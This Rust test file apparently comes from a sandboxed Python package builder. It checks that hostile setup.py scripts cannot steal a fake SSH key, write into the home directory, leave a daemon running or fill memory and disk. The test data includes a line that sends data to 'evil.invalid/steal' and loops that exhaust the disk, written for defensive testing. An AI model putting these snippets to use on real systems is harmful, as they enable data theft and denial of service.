//! Sources that are hostile to who builds them: `setup.py` gets nothing, as root and as an ordinary user, and what it tried is
//! named.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, chown};
use std::os::unix::net::UnixListener;
use std::os::unix::process::CommandExt as _;
use std::path::PathBuf;
use std::process::Command;

use test_support::host;

use super::super::comparison::program;
use crate::index::IndexServer;

/// The user and the group `nobody`.
const NOBODY: u32 = 65534;

/// A user with a home directory that is not below `/tmp`, and a buildout in it.
struct AttackedUser {
    root: tempfile::TempDir,
    index: IndexServer,
    user: Option<u32>,
    _agent: UnixListener,
}

impl AttackedUser {
    /// The user who runs the tests, or an ordinary one (the same if root does not run them).
    fn new(is_ordinary: bool) -> Self {
        let root = tempfile::Builder::new().prefix("user-").tempdir_in("/var/tmp").unwrap();
        let is_root = rustix::process::geteuid().is_root();
        let user = (is_ordinary && is_root).then_some(NOBODY);
        for directory in ["home", "home/.ssh", "home/buildout", "bin"] {
            fs::create_dir(root.path().join(directory)).unwrap();
        }
        fs::write(root.path().join("home/.ssh/id"), "secret").unwrap();
        // By another process: a program that this one has open for writing when a test next to it starts a process is busy.
        let copied = Command::new("cp").arg(host()).arg(root.path().join("bin/buildout-host")).status();
        assert!(copied.unwrap().success());
        let agent = UnixListener::bind(root.path().join("home/agent.sock")).unwrap();
        let index = IndexServer::start(Vec::new());
        let (name, content) = program::setuptools();
        index.add_file(&name, content);
        let text = format!(
            "[buildout]\nparts = app\nindex = {}\nexecutable = /usr/bin/python3\n\n[app]\nrecipe = zc.recipe.egg:eggs\neggs = sourced\n",
            index.url()
        );
        fs::write(root.path().join("home/buildout/buildout.cfg"), text).unwrap();
        let victim = Self { root, index, user, _agent: agent };
        fs::set_permissions(victim.root.path(), fs::Permissions::from_mode(0o755)).unwrap();
        for path in
            ["home", "home/.ssh", "home/.ssh/id", "home/agent.sock", "home/buildout", "home/buildout/buildout.cfg"]
        {
            chown(victim.path(path), victim.user, victim.user).unwrap();
        }
        victim
    }

    fn path(&self, path: &str) -> PathBuf {
        self.root.path().join(path)
    }

    fn add(&self, setup: &str) {
        let port = self.index.url().rsplit(':').next().unwrap().split('/').next().unwrap().to_owned();
        let (home, buildout) = (self.path("home"), self.path("home/buildout"));
        let constants = format!("HOME, BUILDOUT, PORT, MARK = {home:?}, {buildout:?}, {port}, {:?}\n", self.mark());
        let setup = constants + setup;
        self.index.add_source("sourced", "1.0", &[("setup.py", &setup), ("sourced.py", "")]);
    }

    /// How long the daemon of this victim sleeps: no other process has this argument.
    fn mark(&self) -> String {
        let name = self.root.path().to_string_lossy().into_owned();
        format!("1{:06}", name.bytes().fold(0_u32, |sum, byte| (sum * 31 + u32::from(byte)) % 1_000_000))
    }

    fn run(&self, flags: &[&str]) -> (String, bool) {
        let mut command = Command::new(self.path("bin/buildout-host"));
        command.arg("run").args(flags).current_dir(self.path("home/buildout"));
        command.env_clear().env("PATH", "/usr/bin:/bin").env("HOME", self.path("home"));
        command.env("SECRET_OF_THE_USER", "secret");
        if let Some(user) = self.user {
            command.uid(user).gid(user);
        }
        let output = command.output().unwrap();
        let printed = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        (printed, output.status.success())
    }

    /// The command lines of all processes.
    fn is_daemon_alive(&self) -> bool {
        let entries = fs::read_dir("/proc").unwrap().flatten();
        let lines = entries.filter_map(|entry| fs::read_to_string(entry.path().join("cmdline")).ok());
        lines.into_iter().any(|line| line == format!("sleep\0{}\0", self.mark()))
    }

    /// Whether the home directory is as it was.
    fn assert_untouched(&self) {
        for path in [
            "home/written",
            "home/buildout/written",
            "home/buildout/moved",
            "home/buildout/link",
            "home/buildout/eggs/written",
        ] {
            assert!(self.path(path).symlink_metadata().is_err(), "{path}");
        }
        assert_eq!(fs::read_to_string(self.path("home/.ssh/id")).unwrap(), "secret");
        assert_ne!(self.path("home").metadata().unwrap().permissions().mode() & 0o777, 0o777);
        assert!(!self.is_daemon_alive());
    }
}

#[test]
fn a_hostile_setup_gets_nothing() {
    for is_ordinary in [false, true] {
        let victim = AttackedUser::new(is_ordinary);
        victim.add(include_str!("attempts.py"));
        let (printed, succeeded) = victim.run(&[]);
        assert!(succeeded && printed.contains("Got sourced 1.0."), "{printed}");
        victim.assert_untouched();
        assert!(victim.index.requests().iter().all(|path| path.starts_with("/simple/") || path.starts_with("/files/")));
    }
}

#[test]
fn a_hostile_project_in_develop_gets_nothing() {
    for is_ordinary in [false, true] {
        let victim = AttackedUser::new(is_ordinary);
        victim.add(include_str!("attempts.py"));
        let sources = victim.path("home/buildout/project");
        fs::create_dir(&sources).unwrap();
        let port = victim.index.url().rsplit(':').next().unwrap().split('/').next().unwrap().to_owned();
        let constants = format!(
            "HOME, BUILDOUT, PORT, MARK = {:?}, {:?}, {port}, {:?}\n",
            victim.path("home"),
            victim.path("home/buildout"),
            victim.mark()
        );
        fs::write(sources.join("setup.py"), constants + include_str!("attempts.py")).unwrap();
        fs::write(sources.join("sourced.py"), "").unwrap();
        for path in ["", "setup.py", "sourced.py"] {
            chown(sources.join(path), victim.user, victim.user).unwrap();
        }
        let (printed, succeeded) = victim.run(&["buildout:develop=project"]);
        assert!(succeeded && printed.contains("Develop: "), "{printed}");
        assert!(victim.path("home/buildout/develop-eggs/sourced.egg-link").exists());
        victim.assert_untouched();
    }
}

#[test]
fn what_a_setup_tried_is_named() {
    let victim = AttackedUser::new(true);
    victim.add("import urllib.request\nurllib.request.urlopen('http://evil.invalid/steal').read()\n");
    let (printed, succeeded) = victim.run(&[]);
    assert!(!succeeded && printed.contains("tried to connect to evil.invalid:80"), "{printed}");
    victim.add("open(HOME + '/written', 'w')\n");
    fs::remove_dir_all(victim.path("home/.cache")).unwrap();
    let (printed, succeeded) = victim.run(&[]);
    let written = format!("tried to write {}", victim.path("home/written").display());
    assert!(!succeeded && printed.contains(&written), "{printed}");
    victim.assert_untouched();
}

#[test]
fn a_setup_that_fills_memory_or_the_disk_ends() {
    let victim = AttackedUser::new(true);
    // Its private /tmp is in memory, and limited.
    victim.add(
        "data = b'x' * (64 << 20)\nwith open('/tmp/big', 'wb') as big:\n    while True:\n        big.write(data)\n",
    );
    let (printed, succeeded) = victim.run(&[]);
    assert!(!succeeded && printed.contains("No space left on device"), "{printed}");
    victim.add("import os\nos.posix_fallocate(os.open('big', os.O_CREAT | os.O_WRONLY), 0, 1 << 40)\n");
    fs::remove_dir_all(victim.path("home/.cache")).unwrap();
    let (printed, succeeded) = victim.run(&[]);
    assert!(!succeeded && printed.contains("sourced 1.0 cannot be built"), "{printed}");
    let left = fs::read_dir(victim.path("home/.cache/buildout-host/distributions/sources")).unwrap().count();
    assert_eq!(left, 0, "nothing of it stays");
    victim.assert_untouched();
}
